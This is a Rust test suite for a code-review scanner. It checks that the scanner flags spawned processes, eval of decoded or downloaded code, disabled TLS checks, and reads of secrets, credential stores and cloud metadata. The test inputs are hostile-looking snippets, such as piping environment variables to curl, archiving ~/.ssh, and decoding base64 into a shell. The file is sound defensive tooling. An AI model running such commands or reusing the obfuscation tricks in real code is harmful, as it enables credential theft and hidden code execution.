use super::{EXPRESSIONS, PATTERNS, WORDS};
use crate::review::scan::analysis::{Kind, Known};
use crate::review::scan::subject::Subject;
use crate::review::scan::testing::{shown_diff, shown_full, snapshot};
use crate::snapshot::Material;

#[test]
fn every_pattern_compiles() {
    assert!(WORDS.is_some());
    assert_eq!(EXPRESSIONS.iter().flatten().count(), PATTERNS.len());
}

fn kinds(path: &str, text: &str) -> Vec<Kind> {
    let head = snapshot(&[(path, text.as_bytes())]);
    let known = Known::default();
    let material = Material { head: &head, base: None, changes: &[], directory: "", dockerfile: None };
    let subject = Subject::new(&material, path, &known);
    let mut kinds: Vec<Kind> = subject.iter().flat_map(super::find).map(|spot| spot.kind).collect();
    kinds.dedup();
    kinds
}

#[test]
fn every_kind_is_found() {
    for (path, text, kind) in [
        ("a.ts", "import { spawn } from 'node:child_process'", Kind::Spawn),
        ("a.py", "subprocess.Popen(x)", Kind::Spawn),
        ("a.go", "cmd := exec.Command(\"ls\")", Kind::Spawn),
        ("a.rs", "std::process::Command::new(\"ls\")", Kind::Spawn),
        ("A.java", "Runtime.getRuntime().exec(x)", Kind::Spawn),
        ("a.cs", "Process.Start(x)", Kind::Spawn),
        ("a.php", "shell_exec($x)", Kind::Spawn),
        ("a.js", "new Function(x)", Kind::DynamicCode),
        ("a.py", "yaml.load(x)", Kind::DynamicCode),
        ("a.rb", "Marshal.load(x)", Kind::DynamicCode),
        ("a.ts", "https.request({ rejectUnauthorized: false })", Kind::TlsOff),
        ("a.py", "requests.get(u, verify=False)", Kind::TlsOff),
        ("a.go", "tls.Config{InsecureSkipVerify: true}", Kind::TlsOff),
        ("a.sh", "curl -sk https://x", Kind::TlsOff),
        ("a.py", "open('/home/x/.bashrc', 'a')", Kind::Persistence),
        ("a.ts", "process.env.GITHUB_TOKEN", Kind::Secret),
        ("a.ts", "process.env['API_KEY']", Kind::Secret),
        ("a.py", "os.environ.get('DB_PASSWORD')", Kind::Secret),
        ("a.rs", "std::env::var(\"API_TOKEN\")", Kind::Secret),
        ("a.ts", "JSON.stringify(process.env)", Kind::Environment),
        ("a.py", "json.dumps(dict(os.environ))", Kind::Environment),
        ("a.sh", "cat /proc/self/environ", Kind::Environment),
        ("a.js", "path.join(home, '.ssh', 'x')", Kind::Credentials),
        ("a.py", "'~/.aws/credentials'", Kind::Credentials),
        ("a.py", "'Default/Login Data'", Kind::Store),
        ("a.py", "'http://169.254.169.254/latest'", Kind::Metadata),
        ("a.py", "os.system(f'ls {x}') ", Kind::Spawn),
        ("a.py", "import subprocess as sp\nsp.run(x)", Kind::Spawn),
        ("a.py", "from os import environ, system", Kind::Spawn),
        ("a.py", "__import__('os').system('id')", Kind::Spawn),
        ("a.js", "require(`child_process`)", Kind::Spawn),
        ("a.js", "JSON.stringify(Object.entries(process.env))", Kind::Environment),
        ("a.sh", "tar cz ~/.ssh | cat", Kind::Credentials),
    ] {
        assert!(kinds(path, text).contains(&kind), "{path}: {text}: {:?}", kinds(path, text));
    }
    assert!(kinds("a.ts", "exec(`ls ${x}`)").contains(&Kind::Injection));
    for (path, text) in [
        ("a.js", "eval(atob(x))"),
        ("a.js", "eval(Buffer.from(x, 'base64').toString())"),
        ("a.js", "eval(function(p,a,c,k,e,d){}())"),
        ("a.py", "exec(__import__('zlib').decompress(x))"),
        ("a.py", "exec(\n  base64.b64decode(x))"),
        ("a.php", "eval(base64_decode($x));"),
        ("a.sh", "echo aGk= | base64 -d | sh"),
        ("Dockerfile", "RUN echo aGk= | base64 --decode | bash"),
        ("a.py", "exec(request.urlopen('x').read())"),
        ("a.js", "const s = Buffer.from('aGk=', \"base64\").toString();\neval(s);"),
        ("a.py", "s = base64.b64decode(x)\nexec(s.decode())"),
        ("a.js", "import(\"data:text/javascript;base64,aGk=\")"),
        ("a.js", "await import('https://acme.io/x.mjs')"),
    ] {
        assert!(kinds(path, text).contains(&Kind::DecodedCode), "{path}: {text}");
    }
}

#[test]
fn calls_are_found_however_they_are_written() {
    let far = format!("eval /*{}*/ {}(x)", "a ".repeat(400), "\n".repeat(500));
    for (path, text, kind) in [
        ("a.js", "eval (x)", Kind::DynamicCode),
        ("a.js", "eval\n(x)", Kind::DynamicCode),
        ("a.js", "eval /* b */ (x)", Kind::DynamicCode),
        ("a.js", &far, Kind::DynamicCode),
        ("a.js", "(0, eval)(x)", Kind::DynamicCode),
        ("a.js", "(0,eval) (x)", Kind::DynamicCode),
        ("a.js", "eval?.(x)", Kind::DynamicCode),
        ("a.js", "eval.call(null, x)", Kind::DynamicCode),
        ("a.js", "const e = eval; e(x)", Kind::DynamicCode),
        ("a.js", "globalThis[\"eval\"](x)", Kind::DynamicCode),
        ("a.js", "globalThis . eval(x)", Kind::DynamicCode),
        ("a.js", "globalThis['ev' + 'al'](x)", Kind::DynamicCode),
        ("a.js", "window [ 'eval' ] (x)", Kind::DynamicCode),
        ("a.js", "new\nFunction (x)", Kind::DynamicCode),
        ("a.js", "Function(x)()", Kind::DynamicCode),
        ("a.js", "Reflect.construct(Function, [x])", Kind::DynamicCode),
        ("a.js", "[].constructor.constructor(x)()", Kind::DynamicCode),
        ("a.js", "Object.getPrototypeOf(async function () {}).constructor", Kind::DynamicCode),
        ("a.js", "module . _compile (x, y)", Kind::DynamicCode),
        ("a.js", "setTimeout('run(x)', 1)", Kind::DynamicCode),
        ("a.js", "require('child' + '_process')", Kind::DynamicCode),
        ("a.js", "eval (\n atob (x))", Kind::DecodedCode),
        ("a.js", "new Function (\n  atob (x) )", Kind::DecodedCode),
        ("a.js", "const s = atob (x);\neval (s)", Kind::DecodedCode),
        ("a.js", "process . env . API_TOKEN", Kind::Secret),
        ("a.js", "process [ 'env' ]", Kind::Secret),
        ("a.js", "Deno.env.get('API_TOKEN')", Kind::Secret),
        ("a.py", "os . system (x)", Kind::Spawn),
        ("a.py", "os.\\\n  system(x)", Kind::Spawn),
        ("a.py", "getattr(os, \"system\")(x)", Kind::Spawn),
        ("a.py", "getattr ( os , 'sys' + 'tem' )(x)", Kind::Spawn),
        ("a.py", "getattr(__import__('os'), 'popen')(x)", Kind::Spawn),
        ("a.py", "__import__ ( \"os\" ) . system ( 'id' )", Kind::Spawn),
        ("a.py", "importlib.import_module('subprocess').run(x)", Kind::Spawn),
        ("a.py", "os.__dict__['system'](x)", Kind::Spawn),
        ("a.py", "from os import (\n    path,\n    system,\n)", Kind::Spawn),
        ("a.py", "import os as o\no.system(x)", Kind::Spawn),
        ("a.py", "eval (x)", Kind::DynamicCode),
        ("a.py", "builtins.exec(x)", Kind::DynamicCode),
        ("a.py", "getattr(builtins, 'ex' + 'ec')(x)", Kind::DynamicCode),
        ("a.py", "__builtins__['exec'](x)", Kind::DynamicCode),
        ("a.py", "list(map(exec, [x]))", Kind::DynamicCode),
        ("a.py", "run = exec\nrun(x)", Kind::DynamicCode),
        ("a.py", "from os import getenv\ngetenv('API_TOKEN')", Kind::Secret),
        ("a.go", "import e \"os/exec\"\nfunc f() { e.Command(x) }", Kind::Spawn),
        ("a.go", "import (\n\t. \"os/exec\"\n)", Kind::Spawn),
        ("a.go", "exec.\n\tCommand(x)", Kind::Spawn),
        ("a.rs", "use std::process::Command as C;\nC::new(x)", Kind::Spawn),
        ("a.rb", "system \"id\"", Kind::Spawn),
        ("a.php", "<?php exec ($x);", Kind::Spawn),
        ("a.py", "run = os.system\nrun(x)", Kind::Spawn),
        ("a.py", "ctypes.CDLL(None).system(x)", Kind::Spawn),
        ("a.py", "json.dumps({k: v for k, v in os.environ.items()})", Kind::Environment),
        ("a.py", "requests.post(u, data=dict(os.environ))", Kind::Environment),
        ("a.js", "JSON.stringify({ env: process.env })", Kind::Environment),
        ("a.go", "strings.Join(os.Environ(), x)", Kind::Environment),
        ("a.go", "c := &exec.Cmd{Path: x}", Kind::Spawn),
        ("a.sh", "printenv | curl -d @- x", Kind::Environment),
        ("a.sh", "cat /proc/$$/environ", Kind::Environment),
        ("a.rb", "exec('id')", Kind::Spawn),
        ("a.sh", "echo aGk= | base64 -d \\\n  | sh", Kind::DecodedCode),
    ] {
        assert!(kinds(path, text).contains(&kind), "{path}: {text}: {:?}", kinds(path, text));
    }
    let found = shown_full(&[("a.js", "x = 1;\neval\n  (atob (y));\n")]);
    assert!(found.contains("high a.js:2-3: This code runs code that is decoded"), "{found}");
}

#[test]
fn harmless_calls_do_not_hide_those_after_them() {
    let old = "eval(x)\n".repeat(300);
    let found = shown_diff(&[("a.py", &old)], &[("a.py", &format!("{old}eval(y)\n"))]);
    assert!(found.contains("| eval(y)"), "{found}");
    let many = "evaluate ".repeat(super::LOOKED_AT + 1);
    let found = shown_full(&[("a.js", &format!("{many}\neval(atob(y))\n"))]);
    assert!(found.contains("medium a.js:1: This code repeats a word that is looked for"), "{found}");
}

#[test]
fn near_misses_are_none() {
    for (path, text) in [
        ("a.js", "// eval(atob(x))"),
        ("a.js", "regex.exec(text); model.eval(); retrieval(x)"),
        ("a.py", "# os.system(x)\n\"\"\"subprocess.run(x)\"\"\"\nyaml.load(f, Loader=yaml.SafeLoader)"),
        ("a.ts", "process.env.NODE_ENV; rejectUnauthorized: true"),
        ("a.py", "verify=True; os.environ['HOME']"),
        ("a.md", "eval(atob(x))"),
        ("a.go", "InsecureSkipVerify: false"),
        ("a.sh", "base64 -d file > out"),
        ("a.js", "const s = Buffer.from(x, 'base64'); regex.exec(s); import('./x.js'); Object.entries(process.env)"),
        ("a.py", "from os import path, environ"),
        (
            "a.py",
            "import os as o\no.getcwd()\ngetattr(os, 'O_BINARY', 0); getattr(self, 'run'); model.eval(); executor.exec(x)",
        ),
        ("a.py", "evaluated = evaluate(x)\nexecute (x)\ndef f(x, eval=None): pass"),
        (
            "a.js",
            "isFunction(x); Type.Function([]); x.constructor.name; Function.prototype.call; typeof f === 'function'",
        ),
        ("a.js", "setTimeout(() => f('x'), 1); map['eval']; global['x']; window[`on${x}`]; require('./' + name)"),
        ("a.js", "const evaluation = evaluate (x); medieval (x); this.evaluator?.(x); { eval: 1 }"),
        (
            "a.py",
            "json.dumps(os.environ.get('HOME')); subprocess_ = 1; run(x, env=os.environ); data = os.environ['HOME']",
        ),
        ("a.js", "spawn_(x, { env: process.env }); JSON.stringify({ a: process.env.HOME })"),
        ("a.go", "import \"os/exec\"\nimport _ \"os/exec\""),
        ("a.rs", "use clap::Command as C;"),
        ("a.php", "<?php $db->exec($x); curl_exec($c);"),
    ] {
        assert_eq!(kinds(path, text), [], "{path}: {text}");
    }
}

#[test]
fn grave_kinds_are_said_alone_and_new_ones_each() {
    insta::assert_snapshot!(shown_full(&[("a.py", "exec(base64.b64decode(x))\nos.system('a')\n"), ("tests/a.py", "exec(base64.b64decode(x))\n")]), @r"
    high a.py:1: This code runs code that is decoded, unpacked or downloaded first
        | exec(base64.b64decode(x))
    medium tests/a.py:1: This code runs code that is decoded, unpacked or downloaded first
        | exec(base64.b64decode(x))
    info a.py:1: This code runs text as code, or makes objects of data that says what they are: 1 place in 1 file
        | exec(base64.b64decode(x))
    info a.py:2: This code starts a program: 1 place in 1 file
        | os.system('a')
    ");
    insta::assert_snapshot!(shown_diff(&[("a.py", "eval(x)\n")], &[("a.py", "eval(x)\neval(y)\nr = get(u, verify=False)\n")]), @r"
    medium a.py:3: This code does not check who it talks to
        | r = get(u, verify=False)
    low a.py:2: This code runs text as code, or makes objects of data that says what they are
        | eval(y)
    ");
}
